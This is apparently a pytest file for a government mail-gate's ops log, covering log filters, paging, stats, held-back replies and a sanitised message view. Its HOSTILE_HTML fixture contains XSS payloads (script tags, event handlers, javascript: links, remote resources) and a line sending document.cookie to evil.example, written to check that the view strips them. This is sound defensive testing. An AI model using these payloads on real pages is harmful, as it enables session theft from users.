"""The ops log: rejected, ignored and quarantined messages, filters, pages, stats and the safe view."""

from __future__ import annotations

import datetime as dt
import email.policy
import email.utils
import zoneinfo
from email.message import EmailMessage
from typing import Any

import pytest
from messages import BODY, TITLE, submission
from sqlalchemy import select, update

from desk.data import ARRIVAL, Desk
from mailgate.config import Settings
from mailgate.desk.log import HELD_BACK, LogFilter, list_log, log_stats, message_view, raw_message
from mailgate.desk.paging import encode_cursor
from mailgate.store import NewMessage, Store
from mailgate.store.models import Failure, Outbox
from mailgate.store.state import Failures
from mailgate.store.store import NewReply

DAY = dt.timedelta(days=1)
GUANGZHOU = zoneinfo.ZoneInfo("Asia/Shanghai")
#: What a malicious HTML part tries: scripts, handlers, script links, remote images, frames, styles.
HOSTILE_HTML = """<html><head><style>body{background:url(http://evil.example/css)}</style>
<script>alert('head')</script></head><body>
<p>天河区推进智慧城市建设取得新进展</p>
<img src="http://evil.example/pixel.png" onerror="alert('img')">
<img src="cid:logo@th">
<a href="javascript:alert('link')">点这里</a>
<a href="JaVaScRiPt&colon;alert('encoded')">也点这里</a>
<a href="https://www.gz.gov.cn/">市政府网站</a>
<a href="/desk/users?delete=1">内部链接</a>
<div onclick="alert('div')" style="background:url(http://evil.example/bg)">正文内容</div>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/post"><input name="q"></form>
<svg onload="alert('svg')"><circle r="1"/></svg>
<script>document.location='http://evil.example/steal?c='+document.cookie</script>
</body></html>"""


def hostile(n: int) -> bytes:
    """A message from 天河区 carrying 越秀区's identifier (rejected), with a hostile HTML alternative."""
    msg = EmailMessage()
    msg["Received"] = f"from mail.th.gz.gov.cn by mx.gzy.gov.cn id {n}; Thu, 26 Nov 2026 10:00:00 +0800"
    msg["From"] = "天河区政府办 张三 <xxy@th.gz.gov.cn>"
    msg["To"] = "inf@gzy.gov.cn"
    msg["Subject"] = f"【越秀区】{TITLE}"
    msg["Date"] = "Thu, 26 Nov 2026 09:58:00 +0800"
    msg["Message-ID"] = f"<{n}.html@th.gz.gov.cn>"
    msg.set_content(BODY.format(title=TITLE))
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    msg.add_attachment(b"not a word file", maintype="application", subtype="pdf", filename="说明.pdf")
    return msg.as_bytes()


@pytest.fixture
async def logged(desk: Desk) -> dict[str, int]:
    """One of each: accepted (not logged), rejected twice, ignored, quarantined, released."""
    await desk.accepted(submission(1), received_at=ARRIVAL - 3 * DAY)
    wrong_unit = await desk.file(
        _sent(2, ARRIVAL - 2 * DAY, identifier="越秀区"), received_at=ARRIVAL - 2 * DAY
    )
    stranger_raw = _sent(3, ARRIVAL - DAY, sender="Someone@Example.COM", name="某人", identifier="某单位")
    stranger = await desk.file(stranger_raw, received_at=ARRIVAL - DAY, inbox="commissioned")
    auto = await desk.file(_sent(4, ARRIVAL, headers={"Auto-Submitted": "auto-replied"}), received_at=ARRIVAL)
    failures = Failures(desk.store, max_attempts=1)
    raw = submission(5)
    await failures.record("daily", "poison", "ValueError: boom", raw=raw, from_address="xxy@th.gz.gov.cn")
    await failures.record("daily", "released", "ValueError: boom", raw=raw, from_address="xxy@th.gz.gov.cn")
    async with desk.store.transaction() as repo:
        await repo.session.execute(update(Failure).values(quarantined_at=ARRIVAL + dt.timedelta(hours=1)))
        await repo.session.execute(
            update(Failure).where(Failure.source_key == "released").values(released_at=ARRIVAL + DAY)
        )
        poison = await repo.session.scalar(select(Failure.id).where(Failure.source_key == "poison"))
    assert [r.verdict.outcome.value for r in (wrong_unit, stranger, auto)] == [
        "rejected",
        "rejected",
        "ignored",
    ]
    assert poison is not None
    return {
        "wrong_unit": wrong_unit.message_pk,
        "stranger": stranger.message_pk,
        "auto": auto.message_pk,
        "poison": poison,
    }


def _sent(n: int, at: dt.datetime, **fields: Any) -> bytes:
    """A message with its own title, dated when it arrives."""
    return submission(n, title=f"第{n}条信息的标题", date=email.utils.format_datetime(at), **fields)


async def _log(desk: Desk, **where: object) -> list[tuple[str, int]]:
    page = await list_log(desk.store, LogFilter(**where, zone=GUANGZHOU))  # type: ignore[arg-type]
    return [(row.kind, row.id) for row in page.rows]


async def test_the_log_holds_rejected_ignored_and_quarantined_newest_first(
    desk: Desk, logged: dict[str, int]
) -> None:
    page = await list_log(desk.store, LogFilter())
    assert [(r.kind, r.id) for r in page.rows] == [
        ("failure", logged["poison"]),
        ("message", logged["auto"]),
        ("message", logged["stranger"]),
        ("message", logged["wrong_unit"]),
    ]
    poison, auto, stranger, wrong_unit = page.rows
    assert (poison.verdict, poison.rules, poison.from_address) == ("quarantined", [], "xxy@th.gz.gov.cn")
    assert (auto.verdict, auto.rules) == ("ignored", ["auto-reply"])
    assert stranger.verdict == "rejected"
    assert "unregistered-sender" in stranger.rules
    assert stranger.unit_id is None
    assert (stranger.mailbox, stranger.from_address) == ("commissioned", "someone@example.com")
    assert wrong_unit.rules == ["identifier", "stale-date"]  # every finding: the 落款 is dated ahead
    assert wrong_unit.unit_id == "天河区"
    assert wrong_unit.received_at == ARRIVAL - 2 * DAY
    assert page.next_cursor is None


async def test_filters(desk: Desk, logged: dict[str, int]) -> None:
    assert await _log(desk, rule="identifier") == [("message", logged["wrong_unit"])]
    assert await _log(desk, rule="auto-reply") == [("message", logged["auto"])]
    assert await _log(desk, rule="ident") == []  # rule ids match exactly
    assert await _log(desk, rule='identifier"') == []
    assert await _log(desk, unit="天河区") == [("message", logged["auto"]), ("message", logged["wrong_unit"])]
    assert await _log(desk, sender="EXAMPLE.com") == [("message", logged["stranger"])]
    assert await _log(desk, sender="%") == []  # a literal, not a wildcard
    assert len(await _log(desk, sender="th.gz")) == 3  # two messages and the quarantined one
    assert await _log(desk, verdict="quarantined") == [("failure", logged["poison"])]
    assert await _log(desk, verdict="ignored") == [("message", logged["auto"])]
    assert await _log(desk, verdict="accepted") == []
    assert await _log(desk, inbox="commissioned") == [("message", logged["stranger"])]
    day = (ARRIVAL - DAY).date()  # 2026-11-25: the stranger arrived at 10:00 in Guangzhou
    assert await _log(desk, since=day, until=day) == [("message", logged["stranger"])]
    assert await _log(desk, until=day - DAY) == [("message", logged["wrong_unit"])]
    assert await _log(desk, since=day + DAY) == [("failure", logged["poison"]), ("message", logged["auto"])]


async def test_pages_cover_the_log_once_despite_ties(desk: Desk) -> None:
    async with desk.store.transaction() as repo:
        for n in range(17):
            await repo.add_message(_rejected(n, ARRIVAL if n % 3 else ARRIVAL - DAY), ARRIVAL)
    failures = Failures(desk.store, max_attempts=1)
    for n in range(5):
        await failures.record("daily", f"f{n}", "boom", raw=b"x")
    async with desk.store.transaction() as repo:
        await repo.session.execute(update(Failure).values(quarantined_at=ARRIVAL))  # tied with messages
    everything = (await list_log(desk.store, LogFilter(), limit=100)).rows
    assert len(everything) == 22
    keys = [(r.received_at, r.kind, r.id) for r in everything]
    assert keys == sorted(keys, reverse=True)
    for limit in (1, 3, 5, 22):
        seen: list[tuple[str, int]] = []
        cursor = None
        while True:
            page = await list_log(desk.store, LogFilter(), cursor=cursor, limit=limit)
            seen.extend((r.kind, r.id) for r in page.rows)
            if page.next_cursor is None:
                break
            cursor = page.next_cursor
        assert seen == [(r.kind, r.id) for r in everything]
    foreign = (encode_cursor("queue", (True, ARRIVAL, 1)), encode_cursor("log", (ARRIVAL, 1, 1)))
    for cursor in ("=", "abc", *foreign):
        with pytest.raises(ValueError, match="cursor"):
            await list_log(desk.store, LogFilter(), cursor=cursor)


def _rejected(n: int, at: dt.datetime) -> NewMessage:
    return NewMessage(
        mailbox="daily",
        uidvalidity=None,
        uid=None,
        source_key=f"r{n}",
        message_id=f"r{n}@test",
        content_hash=f"{n:064d}",
        size=10,
        from_address="xxy@th.gz.gov.cn",
        subject="退稿",
        unit_id="天河区",
        received_at=at,
        verdict="rejected",
        findings=[{"rule": "body-length", "severity": "reject", "reason": "default", "params": {}}],
        raw=None,
    )


async def test_a_hostile_html_message_is_shown_without_anything_active(desk: Desk) -> None:
    raw = hostile(7)
    filed = await desk.file(raw)
    assert filed.verdict.outcome.value == "rejected"
    view = await message_view(desk.store, "message", filed.message_pk, settings=desk.settings)
    assert view is not None
    assert view.html is not None
    html = view.html.lower()
    for forbidden in (
        "<script", "alert", "onerror", "onclick", "onload", "javascript", "<img", "evil.example",
        "<iframe", "<form", "<input", "<style", "style=", "<svg", "cid:", "/desk/users", "cookie",
    ):  # fmt: skip
        assert forbidden not in html, forbidden
    assert '<a href="https://www.gz.gov.cn/" rel="noopener noreferrer nofollow">市政府网站</a>' in view.html
    assert "正文内容" in view.html
    assert TITLE in view.text
    assert view.message_id == "7.html@th.gz.gov.cn"
    assert ("subject", f"【越秀区】{TITLE}") in view.headers
    assert view.attachments == [("说明.pdf", "application/pdf", len(b"not a word file"))]
    assert [f["rule"] for f in view.findings] == [f.rule for f in filed.verdict.findings]
    identifier = next(f for f in view.findings if f["rule"] == "identifier")
    assert "越秀区" in str(identifier["message"])
    assert identifier["severity"] == "reject"
    assert [(r.kind, r.recipient, r.status, r.held_back) for r in view.replies] == [
        ("rejection", "xxy@th.gz.gov.cn", "pending", None)
    ]
    assert view.error is None
    assert view.has_raw
    assert await raw_message(desk.store, "message", filed.message_pk) == raw


async def test_views_of_quarantined_and_missing_messages(desk: Desk, logged: dict[str, int]) -> None:
    view = await message_view(desk.store, "failure", logged["poison"], settings=desk.settings)
    assert view is not None
    assert view.error == "ValueError: boom"
    assert view.row.verdict == "quarantined"
    assert view.html is None
    assert TITLE in view.text
    assert (view.findings, view.replies) == ([], [])
    assert await raw_message(desk.store, "failure", logged["poison"]) == submission(5)
    assert await message_view(desk.store, "message", 999, settings=desk.settings) is None
    assert await message_view(desk.store, "failure", 999, settings=desk.settings) is None
    assert await message_view(desk.store, "nonsense", logged["poison"], settings=desk.settings) is None
    assert await raw_message(desk.store, "message", 999) is None
    assert await raw_message(desk.store, "nonsense", 1) is None
    async with desk.store.transaction() as repo:
        pk = await repo.add_message(_rejected(99, ARRIVAL), ARRIVAL)  # kept without its bytes
    bare = await message_view(desk.store, "message", pk, settings=desk.settings)
    assert bare is not None
    assert not bare.has_raw
    assert bare.findings[0]["message"] != ""


async def test_stats_count_per_rule_unit_and_verdict(desk: Desk, logged: dict[str, int]) -> None:
    stats = await log_stats(desk.store, zone=GUANGZHOU)
    assert stats.by_verdict == {"rejected": 2, "ignored": 1, "quarantined": 1}
    assert stats.by_rule["identifier"] == 1
    assert stats.by_rule["auto-reply"] == 1
    assert stats.by_rule["unregistered-sender"] == 1
    assert stats.by_rule["stale-date"] == 2
    assert stats.by_unit == {"天河区": 2, "": 1}
    day = (ARRIVAL - DAY).date()
    one_day = await log_stats(desk.store, since=day, until=day, zone=GUANGZHOU)
    assert one_day.by_verdict == {"rejected": 1}
    assert one_day.by_unit == {"": 1}
    (stranger,) = (await list_log(desk.store, LogFilter(since=day, until=day, zone=GUANGZHOU))).rows
    assert one_day.by_rule == dict.fromkeys(stranger.rules, 1)
    empty = await log_stats(desk.store, since=ARRIVAL.date() + 10 * DAY, zone=GUANGZHOU)
    assert (empty.by_rule, empty.by_unit, empty.by_verdict) == ({}, {}, {})


def _body(raw: bytes) -> str:
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    part = message.get_body(("plain",))
    assert part is not None
    return str(part.get_content())


async def test_findings_read_as_the_sender_received_them(store: Store) -> None:
    """The operator's own message and the Traditional script: the log shows the notice's sentence."""
    desk = Desk(store)
    desk.settings = Settings(
        script="zh-Hant",
        rules={"messages": {"identifier": "标识应为贵单位自己的标识“{expected}”，不是“{identifier}”"}},
    )
    await desk.start()
    filed = await desk.file(_sent(1, ARRIVAL, identifier="越秀区"))
    assert filed.verdict.outcome.value == "rejected"
    view = await message_view(desk.store, "message", filed.message_pk, settings=desk.settings)
    assert view is not None
    identifier = next(f for f in view.findings if f["rule"] == "identifier")
    # The operator's sentence, in Traditional script.
    assert identifier["message"] == "標識應爲貴單位自己的標識“天河區”，不是“越秀區”"
    async with desk.store.transaction() as repo:
        notice = await repo.session.scalar(select(Outbox.raw).where(Outbox.message_pk == filed.message_pk))
    assert notice is not None
    sent = _body(notice)
    for finding in view.findings:
        assert str(finding["message"]) in sent, finding["rule"]
    # Read with other settings the same finding says something else: the desk must be given them.
    plain = await message_view(desk.store, "message", filed.message_pk, settings=Settings())
    assert plain is not None
    assert str(plain.findings[0]["message"]) not in sent


async def test_held_back_replies_say_why_in_chinese(desk: Desk) -> None:
    old = desk.clock.now() - 4 * DAY  # past the 72 hours within which mail is answered
    filed = await desk.file(_sent(1, old, identifier="越秀区"), received_at=old)
    async with desk.store.transaction() as repo:
        for reason in (
            "rate_limit",
            "stranger_daily",
            "strangers_off",
            "undeliverable",
            "x_new",
        ):
            reply = NewReply(
                "rejection", "inf@gzy.gov.cn", "xxy@th.gz.gov.cn", f"{reason}@t", b"x", None, reason
            )
            await repo.add_reply(reply, message_pk=filed.message_pk, now=desk.clock.now())
        sent = NewReply("alert", "inf@gzy.gov.cn", "editors@gzy.gov.cn", "alert@t", b"x", None)
        await repo.add_reply(sent, message_pk=filed.message_pk, now=desk.clock.now())
    view = await message_view(desk.store, "message", filed.message_pk, settings=desk.settings)
    assert view is not None
    held = [(r.status, r.reason, r.held_back) for r in view.replies]
    assert held[0] == ("suppressed", "too_old", HELD_BACK["too_old"])
    assert [h for _, _, h in held[1:-2]] == [
        HELD_BACK[r] for r in ("rate_limit", "stranger_daily", "strangers_off", "undeliverable")
    ]
    assert held[-2] == ("suppressed", "x_new", "x_new")  # a reason not known yet: its code
    assert held[-1] == ("pending", None, None)
    assert all("\u4e00" <= text[0] <= "\u9fff" for text in HELD_BACK.values())


async def test_rows_say_when_processed_if_apart_from_the_arrival(desk: Desk) -> None:
    now = desk.clock.now()
    late = await desk.file(
        _sent(1, now - dt.timedelta(hours=2), identifier="越秀区"), received_at=now - dt.timedelta(hours=2)
    )
    prompt = await desk.file(
        _sent(2, now - dt.timedelta(seconds=40), identifier="越秀区"),
        received_at=now - dt.timedelta(seconds=40),
    )
    rows = {row.id: row for row in (await list_log(desk.store, LogFilter())).rows}
    assert (rows[late.message_pk].received_at, rows[late.message_pk].processed_apart) == (
        now - dt.timedelta(hours=2),
        now,
    )
    assert rows[prompt.message_pk].processed_at == now
    assert rows[prompt.message_pk].processed_apart is None


async def test_bad_days_cursors_and_ids_are_value_errors_or_nothing(
    desk: Desk, logged: dict[str, int]
) -> None:
    for where in (
        LogFilter(since=dt.date(1, 1, 1), zone=GUANGZHOU),
        LogFilter(until=dt.date(9999, 12, 31), zone=GUANGZHOU),
        LogFilter(since=ARRIVAL.date()),  # days without a zone
        LogFilter(verdict="quarantined", until=dt.date(9999, 12, 31), zone=GUANGZHOU),
    ):
        with pytest.raises(ValueError, match=r"out of range|zone"):
            await list_log(desk.store, where)
    with pytest.raises(ValueError, match="out of range"):
        await log_stats(desk.store, since=dt.date(1, 1, 1), zone=GUANGZHOU)
    wide = LogFilter(since=dt.date(1, 1, 2), until=dt.date(9999, 12, 30), zone=GUANGZHOU)
    assert len((await list_log(desk.store, wide)).rows) == 4
    for cursor in (
        encode_cursor("log", (ARRIVAL, "message", 2**63)),
        encode_cursor(
            "log", (dt.datetime(1, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=10))), "message", 1)
        ),
    ):
        with pytest.raises(ValueError, match="cursor"):
            await list_log(desk.store, LogFilter(), cursor=cursor)
    for huge in (2**31, 2**64):
        assert await message_view(desk.store, "message", huge, settings=desk.settings) is None
        assert await raw_message(desk.store, "failure", huge) is None
